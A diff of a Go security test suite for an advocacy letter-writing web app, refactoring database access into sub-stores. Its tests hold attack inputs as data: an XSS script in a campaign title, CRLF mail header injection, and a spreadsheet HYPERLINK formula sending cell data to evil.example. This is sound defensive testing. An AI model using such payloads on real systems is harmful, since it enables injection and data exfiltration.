@@ -30,6 +30,7 @@ import (
 	"github.com/advocate-org/advocate/app/mail/mailtest"
 	"github.com/advocate-org/advocate/app/outbox"
 	"github.com/advocate-org/advocate/app/packets"
+	"github.com/advocate-org/advocate/app/store/views"
 	"github.com/advocate-org/advocate/app/web"
 	"github.com/advocate-org/advocate/templates"
 )
@@ -48,13 +49,13 @@ func newAttackApp(t *testing.T, dsn string, edit func(*web.Options)) *authFixtur
 	if err != nil {
 		t.Fatal(err)
 	}
-	audit := auth.NewAudit(af.db, af.clock.Now)
-	camps := campaign.New(campaign.Options{Store: af.db, Letters: letter.NewRenderer(letter.Options{}), Roster: af.roster,
-		PDF: maker, Cache: af.submit, Auditor: audit, Counts: af.db, Clock: af.clock.Now})
+	audit := auth.NewAudit(af.db.Audit, af.clock.Now)
+	camps := campaign.New(campaign.Options{Store: af.db.Campaigns, Letters: letter.NewRenderer(letter.Options{}), Roster: af.roster,
+		PDF: maker, Cache: af.submit, Auditor: audit, Counts: af.db.Stats, Clock: af.clock.Now})
 	o := web.Options{Submit: af.submit, Roster: af.roster, DB: af.db, Limits: af.limits, Pages: templates.Pages(), Static: templates.Static(),
 		Clock: af.clock.Now, Auth: af.auth, Campaigns: camps,
-		Rosters:  keptroster.New(keptroster.Options{Store: af.db, Roster: af.roster, Campaigns: af.db, Auditor: audit}),
-		Delivery: af.db, Packets: packets.New(packets.Options{Store: af.db, PDF: maker, Clock: af.clock.Now})}
+		Rosters:  keptroster.New(keptroster.Options{Store: af.db.Roster, Roster: af.roster, Campaigns: af.db.Campaigns, Auditor: audit}),
+		Delivery: views.Office(af.db), Packets: packets.New(packets.Options{Store: views.Office(af.db), PDF: maker, Clock: af.clock.Now})}
 	if edit != nil {
 		edit(&o)
 	}
@@ -77,36 +78,36 @@ func dbState(t *testing.T, af *authFixture) string {
 	t.Helper()
 	ctx := context.Background()
 	var b strings.Builder
-	users, err := af.db.ListUsers(ctx, app.UserFilter{})
+	users, err := af.db.Accounts.ListUsers(ctx, app.UserFilter{})
 	if err != nil {
 		t.Fatal(err)
 	}
 	for _, u := range users {
 		fmt.Fprintf(&b, "user %s %q %v disabled=%v %s\n", u.Email, u.Name, u.Roles, u.Disabled, u.PasswordHash)
 	}
-	camps, err := af.db.ListCampaigns(ctx, app.CampaignFilter{})
+	camps, err := af.db.Campaigns.ListCampaigns(ctx, app.CampaignFilter{})
 	if err != nil {
 		t.Fatal(err)
 	}
 	for _, c := range camps {
 		fmt.Fprintf(&b, "campaign %s %s %q\n", c.Slug, c.Status, c.Title)
 		for _, k := range app.TargetKinds() {
-			vs, err := af.db.ListTemplateVersions(ctx, c.ID, k)
+			vs, err := af.db.Campaigns.ListTemplateVersions(ctx, c.ID, k)
 			if err != nil {
 				t.Fatal(err)
 			}
 			fmt.Fprintf(&b, "  %s letter: %d versions\n", k, len(vs))
 		}
 	}
-	subs, err := af.db.SubmissionCounts(ctx)
+	subs, err := af.db.Stats.SubmissionCounts(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
-	letters, err := af.db.LetterCounts(ctx)
+	letters, err := af.db.Stats.LetterCounts(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
-	evs, err := af.db.ListAuditEvents(ctx, app.AuditFilter{Limit: 1000})
+	evs, err := af.db.Audit.ListAuditEvents(ctx, app.AuditFilter{Limit: 1000})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -286,12 +287,12 @@ func TestAttackXSS(t *testing.T) {
 	})
 	t.Run("script in a campaign title, public page and API", func(t *testing.T) {
 		ctx := context.Background()
-		c, err := af.db.FindCampaignBySlug(ctx, slug)
+		c, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
 		if err != nil {
 			t.Fatal(err)
 		}
 		c.Title = `Free <script>alert("title")</script> Heng`
-		if err := af.db.UpdateCampaign(ctx, c); err != nil {
+		if err := af.db.Campaigns.UpdateCampaign(ctx, c); err != nil {
 			t.Fatal(err)
 		}
 		af.submit.Forget(slug)
@@ -359,11 +360,11 @@ func TestAttackXSS(t *testing.T) {
 			}
 		}
 		// The supporter's copy email, as the outbox composes it.
-		sub, err := fa.db.FindSubmissionByToken(context.Background(), token)
+		sub, err := fa.db.Submissions.FindSubmissionByToken(context.Background(), token)
 		if err != nil {
 			t.Fatal(err)
 		}
-		camp, err := fa.db.FindCampaignByID(context.Background(), sub.CampaignID)
+		camp, err := fa.db.Campaigns.FindCampaignByID(context.Background(), sub.CampaignID)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -444,12 +445,12 @@ func TestAttackCSRF(t *testing.T) {
 		"name": {"Markwayne Mullin"}, "address": {"Washington, DC 20528"}, "email": {"new@dhs.example"}}); resp.StatusCode != http.StatusSeeOther {
 		t.Fatalf("change of address: %d %s", resp.StatusCode, body)
 	}
-	changes, err := af.db.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending})
+	changes, err := af.db.Roster.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending})
 	if err != nil || len(changes) != 1 {
 		t.Fatalf("pending: %v %v", changes, err)
 	}
 	stillPending := func(t *testing.T) {
-		if c, _ := af.db.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending}); len(c) != 1 {
+		if c, _ := af.db.Roster.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending}); len(c) != 1 {
 			t.Errorf("the change of address was decided: %+v", c)
 		}
 	}
@@ -468,7 +469,7 @@ func TestAttackCSRF(t *testing.T) {
 		{name: "send my link again", path: "/c/" + slug + "/link", form: url.Values{"email": {"csrf@example.org"}}, validWorks: http.StatusOK},
 		{name: "erase own letters", path: "/s/" + eraseToken + "/erase", form: url.Values{"confirm": {"yes"}}, validWorks: http.StatusSeeOther,
 			unchanged: func(t *testing.T) {
-				if sub, _ := af.db.FindSubmissionByToken(context.Background(), eraseToken); sub.Supporter.ErasedAt != nil {
+				if sub, _ := af.db.Submissions.FindSubmissionByToken(context.Background(), eraseToken); sub.Supporter.ErasedAt != nil {
 					t.Error("erased by a forged form")
 				}
 			}},
@@ -616,7 +617,7 @@ func TestAttackMailHeaderInjection(t *testing.T) {
 	}
 	for i, field := range []string{"first_name", "last_name", "address1", "city"} {
 		token := submitToken(t, af, map[string]any{field: "Eve\r\nBcc: victim@example.org\nX-Injected: yes", "email": fmt.Sprintf("crlf%d@example.org", i)})
-		sub, err := af.db.FindSubmissionByToken(context.Background(), token)
+		sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -661,11 +662,11 @@ func TestAttackMailHeaderInjection(t *testing.T) {
 		"Mime-Version": true, "Content-Type": true, "X-Advocate-Campaign": true, "Auto-Submitted": true}
 	for _, r := range rows {
 		t.Run(r.name, func(t *testing.T) {
-			sub, err := af.db.FindSubmissionByToken(ctx, token)
+			sub, err := af.db.Submissions.FindSubmissionByToken(ctx, token)
 			if err != nil {
 				t.Fatal(err)
 			}
-			camp, err := af.db.FindCampaignByID(ctx, sub.CampaignID)
+			camp, err := af.db.Campaigns.FindCampaignByID(ctx, sub.CampaignID)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -776,12 +777,12 @@ func TestAttackGuessingPDFURLs(t *testing.T) {
 	mine := submitToken(t, af, map[string]any{"email": "mine@example.org"})
 	theirs := submitToken(t, af, map[string]any{"email": "theirs@example.org"})
 	ctx := context.Background()
-	sub, err := af.db.FindSubmissionByToken(ctx, theirs)
+	sub, err := af.db.Submissions.FindSubmissionByToken(ctx, theirs)
 	if err != nil {
 		t.Fatal(err)
 	}
 	theirLetter := itoa(sub.Letters[0].ID)
-	mySub, err := af.db.FindSubmissionByToken(ctx, mine)
+	mySub, err := af.db.Submissions.FindSubmissionByToken(ctx, mine)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -1076,7 +1077,7 @@ func TestAttackSQLMetacharacters(t *testing.T) {
 					switch {
 					case resp.StatusCode == http.StatusOK:
 						tok := strings.TrimPrefix(af.emailedLink(t, slug, form.Get("email")), "/s/")
-						sub, err := af.db.FindSubmissionByToken(ctx, tok)
+						sub, err := af.db.Submissions.FindSubmissionByToken(ctx, tok)
 						if err != nil {
 							t.Fatal(err)
 						}
@@ -1137,7 +1138,7 @@ func TestAttackSQLMetacharacters(t *testing.T) {
 					"fact_key": {"person"}, "fact_value": {p}})
 				switch resp.StatusCode {
 				case http.StatusSeeOther:
-					c, err := af.db.FindCampaignBySlug(ctx, cslug)
+					c, err := af.db.Campaigns.FindCampaignBySlug(ctx, cslug)
 					if err != nil || c.Title != p {
 						t.Errorf("campaign title %q stored as %+v (%v)", p, c, err)
 					}
@@ -1151,14 +1152,14 @@ func TestAttackSQLMetacharacters(t *testing.T) {
 			if v, err := af.db.SchemaVersion(ctx); err != nil || v != version {
 				t.Fatalf("schema version %d (%v), was %d", v, err, version)
 			}
-			seed, err := af.db.FindCampaignBySlug(ctx, slug)
+			seed, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
 			if err != nil {
 				t.Fatalf("seed campaign: %v", err)
 			}
-			if u, err := af.db.FindUserByEmail(ctx, "admin@example.org"); err != nil || !u.Has(app.RoleAdmin) {
+			if u, err := af.db.Accounts.FindUserByEmail(ctx, "admin@example.org"); err != nil || !u.Has(app.RoleAdmin) {
 				t.Fatalf("admin: %+v %v", u, err)
 			}
-			counts, err := af.db.SubmissionCounts(ctx)
+			counts, err := af.db.Stats.SubmissionCounts(ctx)
 			if err != nil || counts[seed.ID] == 0 {
 				t.Fatalf("submission counts %v %v", counts, err)
 			}
@@ -1199,7 +1200,7 @@ func TestAttackSpamFloods(t *testing.T) {
 		return resp.StatusCode
 	}
 	submissions := func() int {
-		counts, err := af.db.SubmissionCounts(ctx)
+		counts, err := af.db.Stats.SubmissionCounts(ctx)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -1271,7 +1272,7 @@ func TestAttackSpamFloods(t *testing.T) {
 				t.Fatalf("statuses %v, %d counted", got, submissions()-before)
 			}
 			link := af.emailedLink(t, "free-ana", "janedoe@gmail.com")
-			sub, err := af.db.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
+			sub, err := af.db.Submissions.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -1283,7 +1284,7 @@ func TestAttackSpamFloods(t *testing.T) {
 			if resp.StatusCode != http.StatusSeeOther {
 				t.Fatalf("confirm: %d %s", resp.StatusCode, errorText(body))
 			}
-			if sub, _ = af.db.FindSubmissionByToken(ctx, sub.Token); !sub.Confirmed() || submissions() != before+6 {
+			if sub, _ = af.db.Submissions.FindSubmissionByToken(ctx, sub.Token); !sub.Confirmed() || submissions() != before+6 {
 				t.Fatal("not confirmed")
 			}
 			// Someone else is not held back by it.
@@ -1318,7 +1319,7 @@ func TestAttackSpamFloods(t *testing.T) {
 			}
 			mustContain(t, body, "Check your email", "ONCE@example.org")
 			mustNotContain(t, body, link, "Olive", "/s/")
-			sub, _ := af.db.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
+			sub, _ := af.db.Submissions.FindSubmissionByToken(ctx, strings.TrimPrefix(link, "/s/"))
 			if sub.Supporter.FirstName != "Olive" {
 				t.Fatalf("the first supporter's details changed: %+v", sub.Supporter)
 			}
@@ -1375,14 +1376,14 @@ func TestAttackSupportersTrust(t *testing.T) {
 	adminA := af.signedIn("admin.a@example.org", app.RoleAdmin)
 	adminB := af.signedIn("admin.b@example.org", app.RoleAdmin)
 	userID := func(email string) string {
-		u, err := af.db.FindUserByEmail(ctx, email)
+		u, err := af.db.Accounts.FindUserByEmail(ctx, email)
 		if err != nil {
 			t.Fatal(err)
 		}
 		return itoa(u.ID)
 	}
 	hasRole := func(email string, r app.Role) bool {
-		u, err := af.db.FindUserByEmail(ctx, email)
+		u, err := af.db.Accounts.FindUserByEmail(ctx, email)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -1531,7 +1532,7 @@ func TestAttackSupportersTrust(t *testing.T) {
 			// letters keep the name they were written to): a letter stored
 			// with a formula as its office's name.
 			formula := `=HYPERLINK("http://evil.example/?"&A2,"open")`
-			camp, err := af.db.FindCampaignBySlug(ctx, slug)
+			camp, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -1540,7 +1541,7 @@ func TestAttackSupportersTrust(t *testing.T) {
 			sub := &app.Submission{CampaignID: camp.ID, Token: strings.Repeat("e", 26), DedupKey: "evil", CreatedAt: fixedNow,
 				Supporter: app.Supporter{FirstName: "Ann", LastName: "Lee", Email: "ann@example.org", Address1: "1 Main St", City: "Albany", State: "NY", Zip: "12202"},
 				Letters:   []app.Letter{{CampaignID: camp.ID, Recipient: office, Subject: "Free Guan Heng", Body: "Dear Secretary:\n\nPlease help.", CreatedAt: fixedNow}}}
-			if _, err := af.db.CreateSubmission(ctx, sub); err != nil {
+			if _, err := af.db.Submissions.CreateSubmission(ctx, sub); err != nil {
 				t.Fatal(err)
 			}
 			_, zipBody := holder.get("/staff/campaigns/" + slug + "/packets.zip")
@@ -1612,7 +1613,7 @@ func attackRedirectOfficeMail(t *testing.T, dsn string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	ob, err := outbox.New(outbox.Options{Store: af.db, Sender: smtp, Composer: composer})
+	ob, err := outbox.New(outbox.Options{Store: views.Outbox(af.db), Sender: smtp, Composer: composer})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -1624,7 +1625,7 @@ func attackRedirectOfficeMail(t *testing.T, dsn string) {
 		t.Helper()
 		n++
 		token := submitToken(t, af, map[string]any{"email": fmt.Sprintf("writer%d@example.org", n)})
-		sub, err := af.db.FindSubmissionByToken(ctx, token)
+		sub, err := af.db.Submissions.FindSubmissionByToken(ctx, token)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -1647,7 +1648,7 @@ func attackRedirectOfficeMail(t *testing.T, dsn string) {
 	}
 	pending := func(t *testing.T) []app.AddressChange {
 		t.Helper()
-		list, err := af.db.ListAddressChanges(ctx, app.AddressChangeFilter{Status: app.ApprovalPending})
+		list, err := af.db.Roster.ListAddressChanges(ctx, app.AddressChangeFilter{Status: app.ApprovalPending})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -1856,7 +1857,7 @@ func TestAttackPDFFlood(t *testing.T) {
 				t.Fatalf("statuses %v", got)
 			}
 			// A single letter of the same link counts too.
-			sub, err := af.db.FindSubmissionByToken(context.Background(), token)
+			sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -1905,7 +1906,7 @@ func TestAttackErasedPDFNotServedFromCache(t *testing.T) {
 			}
 			af := newAttackApp(t, dsn, nil)
 			token := submitToken(t, af, map[string]any{"email": "erase.me@example.org"})
-			sub, err := af.db.FindSubmissionByToken(context.Background(), token)
+			sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -1920,7 +1921,7 @@ func TestAttackErasedPDFNotServedFromCache(t *testing.T) {
 					etags[p] = resp.Header.Get("ETag")
 				}
 			}
-			if _, err := af.db.EraseSupporters(context.Background(), app.EraseFilter{Email: "erase.me@example.org"}); err != nil {
+			if _, err := af.db.Privacy.EraseSupporters(context.Background(), app.EraseFilter{Email: "erase.me@example.org"}); err != nil {
 				t.Fatal(err)
 			}
 			for _, p := range paths {
@@ -1978,7 +1979,7 @@ func TestAttackCSRFEveryPOSTRoute(t *testing.T) {
 	if n < 30 {
 		t.Fatalf("only %d form routes found", n)
 	}
-	if sub, _ := af.db.FindSubmissionByToken(context.Background(), token); sub.Supporter.ErasedAt != nil {
+	if sub, _ := af.db.Submissions.FindSubmissionByToken(context.Background(), token); sub.Supporter.ErasedAt != nil {
 		t.Fatal("a forged form erased a supporter")
 	}
 }
